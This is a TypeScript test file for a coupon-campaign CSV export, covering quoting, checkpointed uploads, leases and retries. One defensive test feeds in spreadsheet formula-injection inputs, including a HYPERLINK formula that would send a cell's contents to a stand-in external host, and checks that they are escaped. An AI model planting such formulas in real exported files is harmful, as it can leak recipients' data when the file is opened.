import { describe, expect, it } from "vitest";
import { MemoryCouponStore } from "#shared/adapters/memory/memory-coupon-store.js";
import { MemoryExportObjects } from "#shared/adapters/memory/memory-export-objects.js";
import { MemoryExportStore } from "#shared/adapters/memory/memory-export-store.js";
import { MemorySendLedger } from "#shared/adapters/memory/memory-send-ledger.js";
import { couponLine, csvField, EXPORT_COLUMNS, failureLine, headerLine } from "#shared/domain/exports/export-csv.js";
import { MAX_EXPORT_TRIES, type RunExportDependencies, runExport } from "#shared/domain/exports/run-export.js";
import { EXPORT_FRESH_MS, startExport } from "#shared/domain/exports/start-export.js";
import type { CampaignRecord, ExportJob, ExportQueue } from "#shared/domain/ports.js";

const MiB = 1024 * 1024;
const CAMPAIGN = "c-export";

class RecordingQueue implements ExportQueue {
  readonly jobs: { job: ExportJob; delaySeconds: number }[] = [];
  async enqueue(job: ExportJob, delaySeconds = 0) {
    this.jobs.push({ job, delaySeconds });
  }
}

async function setup(coupons: number, options: { openidPad?: number } = {}) {
  let now = Date.parse("2026-12-01T00:00:00Z");
  const clock = () => now;
  const store = new MemoryCouponStore();
  for (let i = 0; i < coupons; i++) {
    await store.recordIssued(
      {
        couponId: `cp-${String(i).padStart(7, "0")}`,
        stockId: "stock-1",
        mchid: "1900000001",
        outRequestNo: `req-${i}`,
        // Long openids make big rows, so a few thousand coupons span several 5 MiB parts.
        openid: `o-${i}-${"x".repeat(options.openidPad ?? 0)}`,
        appid: "wx1",
        campaignId: CAMPAIGN,
        sentAt: now,
      },
      now,
    );
  }
  const exports = new MemoryExportStore();
  const objects = new MemoryExportObjects();
  const queue = new RecordingQueue();
  const ledger = new MemorySendLedger();
  const deps: RunExportDependencies = {
    exports,
    objects,
    queue,
    coupons: store,
    ledger,
    clock,
    partBytes: 5 * MiB,
    pageSize: 100,
    leaseMs: 60_000,
    reserveMs: 1_000,
  };
  const campaigns = {
    get: async (id: string) => (id === CAMPAIGN ? ({ id, stockId: "stock-1" } as CampaignRecord) : undefined),
  };
  const start = () =>
    startExport({ exports, queue, campaigns, stockEnd: async () => undefined, clock }, CAMPAIGN, "coupons");
  return { deps, store, exports, objects, queue, start, advance: (ms: number) => (now += ms), clock };
}

describe("campaign exports (domain, in-memory adapters)", () => {
  it("writes the header and one RFC 4180 row per coupon, in the store's order, in one invocation", async () => {
    const s = await setup(250);
    const { record } = await s.start();
    expect(s.queue.jobs).toEqual([{ job: { exportId: record.exportId, failedTries: 0 }, delaySeconds: 0 }]);
    const result = await runExport(s.deps, { exportId: record.exportId, failedTries: 0 }, () => 60_000);
    expect(result).toMatchObject({ outcome: "completed", rows: 250 });
    const csv = s.objects.objects.get(record.objectKey)!.toString("utf8");
    const lines = csv.split("\r\n");
    expect(lines[0]).toBe(EXPORT_COLUMNS.coupons.join(","));
    expect(lines).toHaveLength(252); // header, 250 rows, the empty string after the last CRLF
    expect(lines[1]).toBe("cp-0000000,o-0-,req-0,stock-1,SENT,2026-12-01T00:00:00.000Z,,,,,,");
    expect(await s.exports.get(record.exportId)).toMatchObject({ state: "COMPLETED", rows: 250, invocations: 1 });
  });

  it("writes each coupon exactly once when coupons are used and refunded while the export pages", async () => {
    // Uses and refunds move a coupon in the campaign's state-ordered list (record-rules.ts couponListOrder): a refund
    // of a coupon not yet reached moves it behind the pages already read, a use of one already written moves it ahead.
    const s = await setup(250);
    const use = (couponId: string, usedAt: number) =>
      s.store.recordUse(
        {
          couponId,
          stockId: "stock-1",
          transactionId: `tx-${couponId}`,
          consumeTime: new Date(usedAt).toISOString(),
          usedAt,
          amount: 100,
          source: "notification",
        },
        usedAt,
      );
    await use("cp-0000000", s.clock());
    // The stock's coupon of another campaign is not this export's.
    await s.store.recordIssued(
      {
        couponId: "cp-0000100x",
        stockId: "stock-1",
        mchid: "1900000001",
        outRequestNo: "req-other",
        openid: "o-other",
        appid: "wx1",
        campaignId: "c-other",
        sentAt: s.clock(),
      },
      s.clock(),
    );
    const { record } = await s.start();
    let changed = false;
    const coupons = new Proxy(s.store, {
      get(target, property) {
        const value = Reflect.get(target, property) as unknown;
        if (typeof value !== "function") return value;
        return async (...args: unknown[]) => {
          const result = await (value as (...a: unknown[]) => Promise<unknown>).apply(target, args);
          if (!changed && String(property).startsWith("list")) {
            changed = true;
            s.advance(1_000);
            await s.store.recordRefund(
              { couponId: "cp-0000000", stockId: "stock-1", refundedAt: s.clock(), source: "notification" },
              s.clock(),
            );
            await use("cp-0000001", s.clock());
          }
          return result;
        };
      },
    });
    const result = await runExport({ ...s.deps, coupons }, { exportId: record.exportId, failedTries: 0 }, () => 60_000);
    expect(result).toMatchObject({ outcome: "completed", rows: 250 });
    const ids = s.objects.objects
      .get(record.objectKey)!
      .toString("utf8")
      .split("\r\n")
      .slice(1, -1)
      .map((line) => line.split(",")[0]);
    expect(ids).toEqual(Array.from({ length: 250 }, (_, i) => `cp-${String(i).padStart(7, "0")}`));
  });

  it("quotes fields holding commas, quotes or line breaks", () => {
    const line = couponLine(
      {
        couponId: "c1",
        stockId: "s1",
        state: "USED",
        issuedByService: true,
        openid: 'o"1,2',
        transactionIds: ["t1", "t2"],
        consumeMchid: "m\r\n1",
        history: [],
        counted: true,
        createdAt: 0,
        updatedAt: 0,
      },
      undefined,
      0,
    );
    expect(line).toBe('c1,"o""1,2",,s1,USED,,,,,t1;t2,"m\r\n1",\r\n');
    expect(headerLine("failures")).toBe("openid,out_request_no,code,message,attempts,failed_at\r\n");
  });

  it("neutralizes cells a spreadsheet would run as formulas (= + - @ tab CR first): WeChat's messages, openids", () => {
    const line = failureLine({
      mchid: "1900000001",
      outRequestNo: "req-1",
      requestHash: "h",
      stockId: "s1",
      openid: "-A1",
      appid: "wx1",
      state: "FAILED",
      errorCode: "@SUM(1)",
      errorMessage: '=HYPERLINK("http://x.example/?"&A1,"click")',
      attempts: 1,
      leaseUntil: 0,
      createdAt: 0,
      updatedAt: 0,
    });
    expect(line).toBe(
      `'-A1,req-1,'@SUM(1),"'=HYPERLINK(""http://x.example/?""&A1,""click"")",1,1970-01-01T00:00:00.000Z\r\n`,
    );
    expect(["+1", "\tx", "\rx", "=1"].map(csvField)).toEqual(["'+1", "'\tx", '"\'\rx"', "'=1"]);
    // Numbers and text that starts otherwise are written as they are.
    expect([5, "o-1", "2026-12-01T00:00:00.000Z"].map(csvField)).toEqual(["5", "o-1", "2026-12-01T00:00:00.000Z"]);
  });

  it("continues across invocations from its checkpoint: parts of at least 5 MiB, nothing lost or written twice", async () => {
    // ~2,200 bytes a row: 6,000 rows ≈ 13 MiB, three parts.
    const s = await setup(6_000, { openidPad: 2_100 });
    const { record } = await s.start();
    let budget = 0;
    // Each invocation may read about 30 pages before its time runs short.
    const remaining = () => (budget-- > 0 ? 60_000 : 0);
    const outcomes: string[] = [];
    let job = s.queue.jobs.shift()!.job;
    for (let i = 0; i < 10; i++) {
      budget = 30;
      s.advance(61_000); // past the previous lease, as a later invocation would be
      const result = await runExport(s.deps, job, remaining);
      outcomes.push(result.outcome);
      if (result.outcome === "completed") break;
      job = s.queue.jobs.shift()!.job;
    }
    expect(outcomes.at(-1)).toBe("completed");
    expect(outcomes.filter((o) => o === "continued").length).toBeGreaterThanOrEqual(1);
    const stored = (await s.exports.get(record.exportId))!;
    expect(stored.invocations).toBe(outcomes.length);
    const csv = s.objects.objects.get(record.objectKey)!.toString("utf8");
    const ids = csv
      .split("\r\n")
      .slice(1, -1)
      .map((l) => l.split(",")[0]);
    expect(ids).toEqual(Array.from({ length: 6_000 }, (_, i) => `cp-${String(i).padStart(7, "0")}`));
    // The last checkpoint holds every part, stored before the completion (a retry after it only completes).
    expect(stored.checkpoint).toMatchObject({ uploaded: true, rows: 6_000 });
    expect(stored.checkpoint!.parts.map((p) => p.partNumber)).toEqual([1, 2, 3]);
    expect(stored.bytes).toBe(Buffer.byteLength(csv));
  });

  it("lets one invocation at a time work on an export; a second message is skipped while the lease is held", async () => {
    const s = await setup(10);
    const { record } = await s.start();
    const held = await s.exports.claim(record.exportId, s.clock(), 60_000);
    expect(held.status).toBe("acquired");
    expect(await runExport(s.deps, { exportId: record.exportId, failedTries: 0 }, () => 60_000)).toEqual({
      outcome: "skipped",
      reason: "busy",
    });
  });

  it("answers the fresh export again, and starts a new one once it is stale or failed", async () => {
    const s = await setup(1);
    const first = await s.start();
    expect(first.created).toBe(true);
    const replay = await s.start();
    expect(replay).toMatchObject({ created: false, record: { exportId: first.record.exportId } });
    // Never claimed yet: the replay queues it again (the first message may be lost); the claim makes it harmless.
    expect(s.queue.jobs).toHaveLength(2);
    s.advance(EXPORT_FRESH_MS + 1);
    const later = await s.start();
    expect(later.created).toBe(true);
    expect(later.record.exportId).not.toBe(first.record.exportId);
  });

  it("completes on a retry when the record's write failed after S3 had completed the object (no NoSuchUpload)", async () => {
    const s = await setup(250);
    const { record } = await s.start();
    const complete = s.exports.complete.bind(s.exports);
    let refuse = true;
    s.exports.complete = async (...args) => {
      if (refuse) {
        refuse = false;
        throw Object.assign(new Error("throughput exceeded"), { name: "ProvisionedThroughputExceededException" });
      }
      return complete(...args);
    };
    s.queue.jobs.length = 0;
    const first = await runExport(s.deps, { exportId: record.exportId, failedTries: 0 }, () => 60_000);
    expect(first.outcome).toBe("retrying");
    const object = s.objects.objects.get(record.objectKey);
    expect(object).toBeDefined(); // S3 completed the object before the record's write failed
    const stored = await s.exports.get(record.exportId);
    expect(stored?.checkpoint).toMatchObject({ uploaded: true, rows: 250 });

    const retry = await runExport(s.deps, s.queue.jobs.shift()!.job, () => 60_000);
    expect(retry).toEqual({ outcome: "completed", rows: 250, bytes: object!.length });
    expect(await s.exports.get(record.exportId)).toMatchObject({ state: "COMPLETED", rows: 250 });
    expect(s.objects.objects.get(record.objectKey)).toEqual(object);
  });

  it("retries a failing export with back-off from its checkpoint, then records it FAILED", async () => {
    const s = await setup(10);
    const { record } = await s.start();
    s.deps.objects = {
      ...s.objects,
      createUpload: async () => {
        throw Object.assign(new Error("Access Denied"), { name: "AccessDenied" });
      },
    } as never;
    const delays: number[] = [];
    let job: ExportJob = { exportId: record.exportId, failedTries: 0 };
    s.queue.jobs.length = 0;
    for (let i = 0; i < MAX_EXPORT_TRIES; i++) {
      const result = await runExport(s.deps, job, () => 60_000);
      if (result.outcome === "failed") {
        expect(result.error).toEqual({ code: "EXPORT_ERROR", message: "AccessDenied: Access Denied" });
        break;
      }
      expect(result.outcome).toBe("retrying");
      const next = s.queue.jobs.shift()!;
      delays.push(next.delaySeconds);
      job = next.job;
    }
    expect(delays).toEqual([30, 60, 120, 240]);
    expect(await s.exports.get(record.exportId)).toMatchObject({ state: "FAILED", error: { code: "EXPORT_ERROR" } });
  });
});
